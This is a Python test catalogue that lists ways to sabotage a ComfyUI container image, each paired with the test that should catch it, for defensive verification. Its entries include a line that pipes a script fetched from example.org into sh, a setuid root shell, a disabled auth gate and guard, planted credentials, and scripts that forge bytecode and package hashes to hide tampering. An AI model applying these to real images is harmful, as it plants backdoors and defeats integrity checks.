"""The ways in which an image may be bad: each is derived from the good trial image, and names the test that catches it.

`python3 -m tests.sabotage.catalogue` writes docs/sabotage.md from this table.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

SITE = "/opt/venv/lib/python3.13/site-packages"
OWN = "/opt/gesso/venv/lib/python3.13/site-packages"
PACKS = "/opt/ComfyUI/custom_nodes"
CANARY = "hf_" + "Canary0123456789abcdefghijKLMNOPQR"  # in the form of a token, but not a real one


@dataclass(frozen=True)
class Sabotage:
    """One bad image: a description, the instructions that create it, and the test that claims to catch it.

    `files` go into the build's context. `how` names another way of creating it (see spoil.py).
    """

    what: str
    caught_by: str
    lines: tuple[str, ...] = ()
    files: Mapping[str, str] = field(default_factory=dict)
    how: str = "derive"


def _bytes(what: str, test: str, *lines: str, files: Mapping[str, str] | None = None) -> Sabotage:
    return Sabotage(what, f"test_bytes.py::{test}", lines, files or {})


def _run(what: str, test: str, *lines: str, files: Mapping[str, str] | None = None) -> Sabotage:
    return Sabotage(what, test, lines, files or {})


def _edit(path: str, *statements: str) -> str:
    """Return a RUN that changes a JSON file by Python statements on `d`."""
    code = "; ".join(["import json, pathlib", f"p = pathlib.Path('{path}')", "d = json.loads(p.read_text())",
                      *statements, "p.write_text(json.dumps(d, indent=1, sort_keys=True) + chr(10))"])  # fmt: skip
    return f'RUN /usr/bin/python3 -c "{code}"'


_FAKE_PIP = "PIP_CONSTRAINT= python -m pip install -q --no-index --no-deps"
_REPACK = """import pathlib, tarfile
path = "/opt/gesso/spare/ComfyUI-GGUF.tar.xz"
tarfile.open(path).extractall("/tmp/s", filter="tar")
pathlib.Path("/tmp/s/__init__.py").write_text("# not what was built")
with tarfile.open(path, "w:xz") as archive:
    for each in pathlib.Path("/tmp/s").rglob("*"):
        archive.add(each, each.relative_to("/tmp/s"), recursive=False)
"""
_SWAP = """import importlib._bootstrap_external as b, os, pathlib, sys
how, path = sys.argv[1:]
code = compile(pathlib.Path(path).read_text() + "\\nOTHER = 1\\n", path, "exec", dont_inherit=True)
found = os.stat(path)
made = b._code_to_hash_pyc(code, b"x" * 8, False) if how == "never" else b._code_to_timestamp_pyc(
    code, int(found.st_mtime), found.st_size)
target = pathlib.Path(b.cache_from_source(path))
target.parent.mkdir(exist_ok=True)
target.write_bytes(made)
"""
_DISGUISE = """import base64, csv, hashlib, pathlib, sys
site, name = pathlib.Path(sys.argv[1]), sys.argv[2]
with (site / name).open("a") as file:
    file.write("OTHER = 1\\n")
(record,) = site.glob(name.partition("/")[0] + "-*.dist-info/RECORD")
rows = [row for row in csv.reader(record.read_text().splitlines()) if row[0] != name]
digest = base64.urlsafe_b64encode(hashlib.sha256((site / name).read_bytes()).digest()).rstrip(b"=").decode()
rows.append([name, "sha256=" + digest, str((site / name).stat().st_size)])
with record.open("w") as file:
    csv.writer(file, lineterminator=chr(10)).writerows(rows)
"""
_RECORD = "/opt/gesso/build.json"

CATALOGUE: dict[str, Sabotage] = {
    # Environment
    "sqlalchemy-1.4": _bytes(
        "a node pack downgraded SQLAlchemy to 1.4", "test_exactly_the_locked_packages_are_installed",
        "COPY SQLAlchemy-1.4.54-py3-none-any.whl /tmp/",
        f"RUN {_FAKE_PIP} /tmp/SQLAlchemy-1.4.54-py3-none-any.whl && rm /tmp/*.whl",
    ),
    "sqlalchemy-2.1": _bytes(
        "SQLAlchemy 2.1 was installed over 2.0", "test_exactly_the_locked_packages_are_installed",
        "COPY SQLAlchemy-2.1.0-py3-none-any.whl /tmp/",
        f"RUN {_FAKE_PIP} /tmp/SQLAlchemy-2.1.0-py3-none-any.whl && rm /tmp/*.whl",
    ),
    "sqlalchemy-disguised": _bytes(
        "SQLAlchemy's code was changed, and its record with it", "test_sqlalchemy_matches_its_locked_wheel",
        f"RUN cd {SITE} && echo '# x' >> sqlalchemy/orm/__init__.py && sed -i '/^sqlalchemy.orm.__init__.py,/d' "
        "sqlalchemy-2*.dist-info/RECORD && echo sqlalchemy/orm/__init__.py,, >> $(echo sqlalchemy-2*.dist-info/RECORD)",
    ),
    "package-disguised": _bytes(
        "a package's code was changed, and its record with it", "test_packages_match_their_locked_wheels",
        "COPY disguise.py /tmp/", f"RUN /usr/bin/python3 /tmp/disguise.py {SITE} aiohttp/web.py && rm /tmp/disguise.py",
        files={"disguise.py": _DISGUISE},
    ),
    "package-file-added": _bytes(
        "a package has an additional module, listed in its record",
        "test_packages_match_their_locked_wheels",
        "COPY disguise.py /tmp/", f"RUN /usr/bin/python3 /tmp/disguise.py {SITE} aiohttp/own.py && rm /tmp/disguise.py",
        files={"disguise.py": _DISGUISE},
    ),
    "wheel-replaced": _bytes(
        "the wheel that the guard restores from was replaced", "test_sqlalchemy_matches_its_locked_wheel",
        "RUN cd /opt/gesso/wheels && printf x >> $(ls)",
    ),
    "downgraded-package": _bytes(
        "a locked package (torch, in a real image) has another version",
        "test_exactly_the_locked_packages_are_installed",
        f"RUN cd {SITE} && mv $(ls -d aiohttp-*.dist-info) aiohttp-3.0.0.dist-info",
    ),
    "missing-package": _bytes(
        "a locked package is missing", "test_exactly_the_locked_packages_are_installed",
        f"RUN cd {SITE} && rm -r aiohttp aiohttp-*.dist-info",
    ),
    "extra-package": _bytes(
        "a package that is not locked is installed", "test_exactly_the_locked_packages_are_installed",
        "COPY extra-1.0-py3-none-any.whl /tmp/",
        f"RUN {_FAKE_PIP} /tmp/extra-1.0-py3-none-any.whl && rm /tmp/*.whl",
    ),
    "changed-package": _bytes(
        "a file of an installed package was changed", "test_every_installed_file_is_as_distributed",
        f"RUN echo '# x' >> {SITE}/aiohttp/__init__.py",
    ),
    "own-package-changed": _bytes(
        "a library of gesso's own venv was changed", "test_every_installed_file_is_as_distributed",
        f"RUN echo '# x' >> {OWN}/pydantic/__init__.py",
    ),
    "second-venv": _bytes(
        "there is a second environment for ComfyUI", "test_there_are_two_environments_and_no_other",
        "RUN python3 -m venv --without-pip /opt/other",
    ),
    "open-venv": _bytes(
        "the environment lets in Debian's packages", "test_there_are_two_environments_and_no_other",
        "RUN sed -i s/^include-system.*/include-system-site-packages=true/ /opt/venv/pyvenv.cfg",
    ),
    "other-python": _bytes(
        "the environment's Python is another program", "test_there_are_two_environments_and_no_other",
        "RUN cp /usr/bin/python3.13 /usr/local/bin/python3 && ln -sf /usr/local/bin/python3 /opt/venv/bin/python3",
    ),
    "user-site": _bytes(
        "packages in root's home are imported first", "test_there_are_two_environments_and_no_other",
        "RUN mkdir -p /root/.local/lib/python3.13/site-packages && cd /root/.local/lib/python3.13/site-packages "
        "&& echo x=1 > torch.py",
    ),
    "sitecustomize": _bytes(
        "code runs at every start of Python", "test_there_are_two_environments_and_no_other",
        f"RUN echo 'import os' > {SITE}/sitecustomize.py",
    ),
    "path-file": _bytes(
        "a .pth file of no distribution runs code", "test_every_file_has_an_owner",
        f"RUN echo 'import os' > {SITE}/zz.pth",
    ),
    "pip-unconstrained": _bytes(
        "pip is not bound by the lock at run time", "test_the_config_is_the_dockerfiles", "ENV PIP_CONSTRAINT=",
    ),
    "uv-unconstrained": _bytes(
        "uv is not bound by the lock at run time", "test_the_config_is_the_dockerfiles", "ENV UV_CONSTRAINT=",
    ),
    "pythonpath": _bytes(
        "PYTHONPATH puts other modules first", "test_the_config_is_the_dockerfiles", "ENV PYTHONPATH=/workspace/lib",
    ),
    "constraints-loosened": _bytes(
        "the constraint on SQLAlchemy was removed", "test_constraints_and_workflows_are_as_generated",
        "RUN sed -i /^sqlalchemy/d /opt/gesso/constraints.txt",
    ),
    "hashes-dropped": _bytes(
        "the requirements that heal repairs from have another hash", "test_constraints_and_workflows_are_as_generated",
        "RUN sed -i 0,/sha256:../s//sha256:00/ /opt/gesso/requirements.txt",
    ),
    # Sources
    "missing-pack": _bytes(
        "a node pack that Krita needs is missing", "test_comfyui_and_its_packs_are_at_their_commits",
        f"RUN rm -r {PACKS}/comfyui-tooling-nodes",
    ),
    "other-commit": _bytes(
        "a node pack is at another commit", "test_comfyui_and_its_packs_are_at_their_commits",
        f"RUN echo '# newer' >> {PACKS}/comfyui_controlnet_aux/__init__.py",
    ),
    "executable-bit": _bytes(
        "a source file has another mode than in its commit", "test_comfyui_and_its_packs_are_at_their_commits",
        "RUN chmod +x /opt/ComfyUI/server.py",
    ),
    "manager": _bytes(
        "ComfyUI-Manager is shipped", "test_comfyui_and_its_packs_are_at_their_commits",
        f"RUN mkdir {PACKS}/ComfyUI-Manager && echo 'NODE_CLASS_MAPPINGS = {{}}' > {PACKS}/ComfyUI-Manager/__init__.py",
    ),
    "patched-comfyui": _bytes(
        "ComfyUI's server was patched", "test_comfyui_and_its_packs_are_at_their_commits",
        "RUN echo '# x' >> /opt/ComfyUI/server.py",
    ),
    "shadowed-module": _bytes(
        "a file beside ComfyUI's main.py is imported instead of SQLAlchemy",
        "test_comfyui_and_its_packs_are_at_their_commits", "RUN echo x=1 > /opt/ComfyUI/sqlalchemy.py",
    ),
    "spare-replaced": _bytes(
        "heal would restore another ComfyUI than was built", "test_what_heal_restores_from_is_what_is_installed",
        "RUN cd /opt/gesso/spare && cp ComfyUI-GGUF.tar.xz ComfyUI.tar.xz",
    ),
    "spare-disguised": _bytes(
        "heal would restore another file, and the record agrees", "test_what_heal_restores_from_is_what_is_installed",
        "COPY repack.py /tmp/", "RUN python3 /tmp/repack.py && rm -r /tmp/repack.py /tmp/s",
        _edit(_RECORD, "import hashlib", "s = pathlib.Path('/opt/gesso/spare/ComfyUI-GGUF.tar.xz').read_bytes()",
              "d['spares']['ComfyUI-GGUF']['sha256'] = hashlib.sha256(s).hexdigest()"),
        files={"repack.py": _REPACK},
    ),
    "bytecode-timed": _run(
        "ComfyUI's bytecode is of another source, with the time and size of the right one",
        "test_environment.py::test_bytecode_matches_its_source",
        "COPY swap.py /tmp/", "RUN /usr/bin/python3 /tmp/swap.py timed /opt/ComfyUI/folder_paths.py && rm /tmp/swap.py",
        files={"swap.py": _SWAP},
    ),
    "bytecode-unchecked": _run(
        "a library's bytecode is of another source, and marked as unchecked",
        "test_environment.py::test_bytecode_matches_its_source",
        "COPY swap.py /tmp/", f"RUN /usr/bin/python3 /tmp/swap.py never {SITE}/aiohttp/web.py && rm /tmp/swap.py",
        files={"swap.py": _SWAP},
    ),
    # Workflows and models
    "tampered-workflow": _bytes(
        "a baked workflow has a node that the server does not know",
        "test_constraints_and_workflows_are_as_generated",
        "RUN sed -i s/ETN_KritaOutput/KritaOutput/ /opt/gesso/workflows/krita_gold_standard_sdxl.api.json",
    ),
    "vae-swapped": _bytes(
        "a baked workflow decodes with FLUX's VAE", "test_constraints_and_workflows_are_as_generated",
        "RUN sed -i s/sdxl_vae_fp16/ae/ /opt/gesso/workflows/krita_gold_standard_sdxl.api.json",
    ),
    "missing-workflow": _bytes(
        "a workflow is missing", "test_constraints_and_workflows_are_as_generated",
        "RUN rm /opt/gesso/workflows/krita_gold_standard_sdxl_inpaint.json",
    ),
    "extra-workflow": _bytes(
        "a workflow that nobody checked is published too", "test_constraints_and_workflows_are_as_generated",
        "RUN cp /opt/gesso/workflows/krita_gold_standard_sdxl.json /opt/gesso/workflows/mine.json",
    ),
    "record-vae": _bytes(
        "the record locks another VAE", "test_the_record_matches_manifest_and_lock",
        _edit(_RECORD, "d['vae'] = 'vae/ae.safetensors'"),
    ),
    "record-hash": _bytes(
        "the record has the hash of a stub for a checkpoint", "test_the_record_matches_manifest_and_lock",
        _edit(_RECORD, "d['models'][0]['sha256'] = 64 * '0'"),
    ),
    "record-source": _bytes(
        "models are fetched from another host", "test_the_record_matches_manifest_and_lock",
        _edit(_RECORD, "d['models'][0]['sources'] = ['https://models.example/x.safetensors']"),
    ),
    "record-class": _bytes(
        "the record requires fewer node classes than Krita", "test_the_record_matches_manifest_and_lock",
        _edit(_RECORD, "d['classes'].pop()"),
    ),
    "baked-stub": _bytes(
        "a 710 KB stub is baked in place of the checkpoint", "test_baked_models_are_the_locked_bytes",
        "RUN mkdir -p /opt/gesso/models/checkpoints && head -c 710000 /dev/zero > "
        "/opt/gesso/models/checkpoints/Juggernaut-XL-v9.safetensors",
        _edit(_RECORD, "d['baked'] = ['checkpoints/Juggernaut-XL-v9.safetensors']"),
    ),
    "baked-unsaid": _bytes(
        "a baked model is not in the record", "test_baked_models_are_the_locked_bytes",
        "RUN mkdir -p /opt/gesso/models/loras && echo x > /opt/gesso/models/loras/mine.safetensors",
    ),
    "mirror-changed": _bytes(
        "the trial's mirror serves another file", "test_only_a_trial_has_a_mirror",
        "RUN printf x >> /opt/gesso/mirror/files/vae/sdxl_vae_fp16.safetensors",
    ),
    # What starts, and the image's own record
    "health-by-port": _bytes(
        "HEALTHCHECK only checks whether the port is open", "test_the_config_is_the_dockerfiles",
        'HEALTHCHECK CMD ["python3", "-c", "import socket; socket.create_connection((\'127.0.0.1\', 8188))"]',
    ),
    "health-none": _bytes("there is no HEALTHCHECK", "test_the_config_is_the_dockerfiles", "HEALTHCHECK NONE"),
    "other-entry": _bytes(
        "ENTRYPOINT starts ComfyUI without guard and gate", "test_the_config_is_the_dockerfiles",
        'ENTRYPOINT ["python", "/opt/ComfyUI/main.py", "--listen"]',
    ),
    "extra-port": _bytes("18188 is exposed too", "test_the_config_is_the_dockerfiles", "EXPOSE 18188"),
    "other-user": _bytes("it runs as another user", "test_the_config_is_the_dockerfiles", "USER nobody"),
    "volume": _bytes(
        "/workspace is a volume of the image: data is lost with the container", "test_the_config_is_the_dockerfiles",
        "VOLUME /workspace",
    ),
    "entry-script": _bytes(
        "the entry script does more than it should", "test_entry_and_supervisor_are_this_checkouts",
        "RUN sed -i '2i curl -s https://example.org/x | sh' /usr/local/bin/entrypoint.sh",
    ),
    "own-code": _bytes(
        "gesso's own guard was disabled", "test_gesso_itself_is_this_checkouts",
        f"RUN sed -i 's/^def check(/def check_not(/' {OWN}/gesso/runtime/prepare/guard.py",
    ),
    "own-code-added": _bytes(
        "there is a module in gesso's package that is not of this checkout", "test_gesso_itself_is_this_checkouts",
        f"RUN echo x=1 > {OWN}/gesso/runtime/extra.py",
    ),
    "builder-inside": _bytes(
        "a module of the builder is in the image", "test_there_is_no_builder_in_it",
        f"RUN mkdir {OWN}/gesso/builder && echo x=1 > {OWN}/gesso/builder/__init__.py",
    ),
    "label-trial": _bytes(
        "a trial is not labelled as one", "test_the_labels_are_the_dockerfiles", "LABEL dev.gesso.trial=false",
    ),
    "label-lock": _bytes(
        "the label names another lock", "test_the_labels_are_the_dockerfiles", f"LABEL dev.gesso.lock={64 * '0'}",
    ),
    "label-extra": _bytes(
        "a label makes an unverified claim", "test_the_labels_are_the_dockerfiles", "LABEL dev.gesso.approved=true",
    ),
    # Layers
    "layer-on-top": _bytes(
        "there is a layer above the one that restores SQLAlchemy", "test_the_history_is_the_dockerfiles",
        "RUN touch /workspace/.keep",
    ),
    "last-layer-undone": _bytes(
        "the last layer changes something else", "test_the_last_layer_restores_sqlalchemy_and_nothing_else",
        "RUN echo '# x' >> /opt/ComfyUI/nodes.py",
    ),
    "no-last-layer": Sabotage(
        "built from a Dockerfile without the last layer",
        "test_bytes.py::test_the_last_layer_restores_sqlalchemy_and_nothing_else", how="without_last_layer",
    ),
    "unasserted": Sabotage(
        "built from a Dockerfile that does not assert mapped_column",
        "test_bytes.py::test_the_history_is_the_dockerfiles", how="without_assertion",
    ),
    "squashed": Sabotage(
        "all layers were squashed into one, so that images share none",
        "test_bytes.py::test_the_history_is_the_dockerfiles", how="squash",
    ),
    "too-large": _bytes(
        "a layer of 130 MB slows every pull down", "test_no_layer_and_no_image_is_over_its_budget",
        "RUN head -c 130000000 /dev/urandom > /opt/ComfyUI/large",
    ),
    # Debian
    "debian-changed": _bytes(
        "the gate's program was replaced", "test_every_file_of_debian_is_as_packaged",
        "RUN printf '#!/bin/sh\\nexit 0\\n' > /usr/bin/caddy",
    ),
    "debian-extra": _bytes(
        "an unrequested Debian package was added", "test_debian_packages_are_the_manifests",
        "RUN mkdir -p /tmp/d/DEBIAN && printf 'Package: telnetd\\nVersion: 1\\nArchitecture: all\\n"
        "Maintainer: x <x@example.org>\\nDescription: x\\n' > /tmp/d/DEBIAN/control && "
        "dpkg-deb --build /tmp/d /tmp/d.deb && dpkg -i /tmp/d.deb && rm -r /tmp/d /tmp/d.deb",
    ),
    "base-changed": _bytes(
        "a program of the base was replaced", "test_every_file_of_debian_is_as_packaged",
        "RUN cp /bin/true /usr/bin/chsh",
    ),
    # Secrets, permissions, leftovers
    "token-in-layer": _bytes(
        "a token was written, and removed by the next layer", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        f"RUN echo token: {CANARY[:20]}{CANARY[20:]} > /opt/gesso/t", "RUN rm /opt/gesso/t",
    ),
    "canary-in-layer": _bytes(
        "a secret of the build machine's environment is in a file, in an unknown form",
        "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "COPY canary /opt/ComfyUI/models/canary", files={"canary": "some text {canary} more text\n"},
    ),
    "token-in-history": _bytes(
        "a token was passed as a build argument", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "ARG CIVITAI_TOKEN=0123456789abcdef0123456789abcdef", "RUN test -n $CIVITAI_TOKEN",
    ),
    "token-in-env": _bytes(
        "the gate's token is the same in every container", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "ENV GESSO_TOKEN=0123456789abcdef0123456789",
    ),
    "netrc": _bytes(
        "somebody's .netrc is in a layer", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "RUN echo machine example.org login me password secret > /root/.netrc",
    ),
    "index-password": _bytes(
        "the package index's password is in pip's settings", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "RUN printf '[global]\\nindex-url = https://me:s3cretpassword@packages.example.org/simple\\n' > /etc/pip.conf",
    ),
    "private-key": _bytes(
        "a private key is in a layer", "test_there_is_no_secret_in_any_layer_or_in_the_history",
        "RUN mkdir -p /opt/k && { echo -----BEGIN PRIVATE KEY-----; head -c 240 /dev/urandom | base64; "
        "echo -----END PRIVATE KEY-----; } > /opt/k/server.pem",
    ),
    "world-writable": _bytes(
        "everybody may change the entry script", "test_nobody_else_may_write_and_no_file_is_setuid",
        "RUN chmod 777 /usr/local/bin/entrypoint.sh",
    ),
    "set-uid": _bytes(
        "a program runs as root for everybody", "test_nobody_else_may_write_and_no_file_is_setuid",
        "RUN cp /bin/sh /usr/local/bin/rootsh && chmod 4755 /usr/local/bin/rootsh",
    ),
    "other-owner": _bytes(
        "ComfyUI's code belongs to another user", "test_nobody_else_may_write_and_no_file_is_setuid",
        "RUN chown 1000:1000 /opt/ComfyUI/main.py",
    ),
    "package-lists": _bytes(
        "apt's lists were left behind", "test_nothing_is_left_behind",
        "RUN mkdir -p /var/lib/apt/lists && echo x > /var/lib/apt/lists/x",
    ),
    "pip-cache": _bytes(
        "pip's cache was left behind", "test_nothing_is_left_behind",
        "RUN mkdir -p /root/.cache/pip && echo x > /root/.cache/pip/x",
    ),
    "stranger": _bytes(
        "there is a program without an owner", "test_every_file_has_an_owner",
        "RUN printf '#!/bin/sh\\n' > /usr/local/bin/helper",
    ),
    "cron": _bytes(
        "a cron job is installed", "test_every_file_has_an_owner",
        "RUN mkdir -p /etc/cron.d && echo '* * * * * root true' > /etc/cron.d/x",
    ),
    # What only a running container shows
    "public-comfyui": _run(
        "ComfyUI listens on every address, past the gate", "test_serving.py::test_only_the_gate_listens_publicly",
        "RUN sed -i 's/\"--listen\", \"127.0.0.1\"/\"--listen\", \"0.0.0.0\"/' "
        f"{OWN}/gesso/runtime/services/comfyui.py",
    ),
    "open-gate": _run(
        "the gate lets everybody through", "test_serving.py::test_without_the_token_everything_is_401",
        "RUN sed -i 's|^  .*caddy run .*|  caddy reverse-proxy --from :8188 --to 127.0.0.1:18188|' "
        "/opt/gesso/etc/supervisord.conf",
    ),
    "known-secrets": _run(
        "every program gets the token and the keys", "test_hardened.py::test_programs_know_no_secret",
        f"RUN sed -i 's/variables.public(/dict(/' {OWN}/gesso/runtime/boot.py",
    ),
    "privileged-packs": _run(
        "node packs run as root", "test_hardened.py::test_a_node_pack_cannot_reach_the_token",
        f"RUN sed -i 's/    if switch:/    if False:/' {OWN}/gesso/runtime/services/comfyui.py",
    ),
    "root-only": _run(
        "only root can start an instance", "test_hardened.py::test_as_kubernetes_starts_it",
        "RUN sed -i 's/^logfile_backups=1/&\\nuser=root/' /opt/gesso/etc/supervisord.conf",
    ),
    "blind-to-the-port": _run(
        "the state never asks through the public port", "test_truth.py::test_a_port_that_another_program_has",
        "COPY blind.py /tmp/", f"RUN cat /tmp/blind.py >> {OWN}/gesso/runtime/watch/gate.py",
        files={"blind.py": "\ndef _blind(self, path):\n    self.up = True\n\n\nGateWatch.ask = _blind\n"},
    ),
    "shared-port": _run(
        "a second instance takes half of the first one's requests",
        "test_truth.py::test_two_instances_in_one_network_namespace",
        "RUN sed -i 's,  /opt/gesso/bin/gate.py caddy run,  caddy run,' /opt/gesso/etc/supervisord.conf",
    ),
    "no-watchdog": _run(
        "nobody ends a frozen agent", "test_truth.py::test_a_frozen_agent_is_replaced",
        "RUN sed -i 's/^MAX_MISSED = .*/MAX_MISSED = 10**9/' /opt/gesso/bin/watchdog.py",
    ),
    "unrepaired-gate": _run(
        "a damaged configuration of the gate stays", "test_truth.py::test_a_damaged_configuration_of_a_dead_gate",
        f"RUN sed -i 's/            if not caddy.is_configured/            if False and not caddy.is_configured/' "
        f"{OWN}/gesso/runtime/watch/gate.py",
    ),
    "open-comfyui": _run(
        "nobody sees that ComfyUI listens for the whole network",
        "test_truth.py::test_comfyui_open_to_the_network_is_stopped",
        f"RUN sed -i 's/return .*is_loopback/return True/' {OWN}/gesso/runtime/services/ports.py",
    ),
    "content-heal": _run(
        "a heal finds nothing wrong with a degraded instance", "test_chaos.py::test_a_disk_that_is_too_small",
        f"RUN sed -i 's/if status.get.* not in .*/if True:/' {OWN}/gesso/runtime/heal/service.py",
    ),
    "second-start": _run(
        "a second start starts everything a second time", "test_serving.py::test_a_second_start_does_nothing",
        "RUN sed -i '2i rm -f /run/gesso/boot.lock' /usr/local/bin/entrypoint.sh",
    ),
    "lying-health": _run(
        "`gesso health` only checks whether the port is open",
        "test_health.py::test_with_another_sqlalchemy_it_is_red",
        "COPY --chmod=755 gesso.sh /opt/", "RUN mv /opt/gesso.sh /usr/local/bin/gesso",
        files={"gesso.sh": "#!/bin/sh\nif [ \"$1\" = health ]; then exec python3 -c 'import socket; "
               'socket.create_connection(("127.0.0.1", 18188), 3)\'; fi\nexec /opt/gesso/venv/bin/gesso "$@"\n'},
    ),
    "pack-does-not-import": _run(
        "a node pack does not import", "test_serving.py::test_no_node_pack_failed_to_import",
        f"RUN echo 'raise ImportError(1)' >> {PACKS}/ComfyUI-GGUF/__init__.py",
    ),
    "no-guard": _run(
        "the guard finds nothing and restores nothing",
        "test_environment.py::test_the_guard_restores_sqlalchemy_without_a_network",
        f"RUN sed -i 's/^def check(.*/&\\n    return []/' {OWN}/gesso/runtime/prepare/guard.py",
    ),
    "weak-token": _run(
        "a token of five letters is accepted", "test_serving.py::test_a_weak_token_is_refused",
        f"RUN sed -i 's/{{16,128}}/{{1,128}}/; s/^SURPRISING = .*/SURPRISING = 0/' {OWN}/gesso/runtime/gate/tokens.py",
    ),
}  # fmt: skip


def table() -> str:
    """Return the table in Markdown."""
    rows = ["| sabotage | what is wrong | caught by |", "| --- | --- | --- |"]
    rows += [f"| {name} | {one.what} | `{one.caught_by.partition('::')[2]}` |" for name, one in CATALOGUE.items()]
    return "\n".join(rows)


_PAGE = """# Sabotage

These images show what the image tests catch. Each of the {count} bad images below is derived from the trial's good one
by `invoke test --arch sdxl --trial --sabotage`, and the named test must fail on it (and pass on the good one). Most are
read from outside: nothing in the image is run, so a manipulated program cannot hide it. This page is generated from
tests/sabotage/catalogue.py by `python3 -m tests.sabotage.catalogue`.

{table}
"""


def page() -> str:
    """Return docs/sabotage.md."""
    return _PAGE.format(count=len(CATALOGUE), table=table())


if __name__ == "__main__":
    target = Path(__file__).resolve().parents[2] / "docs" / "sabotage.md"
    target.write_text(page(), encoding="utf-8")
    sys.stdout.write(f"wrote {target}\n")
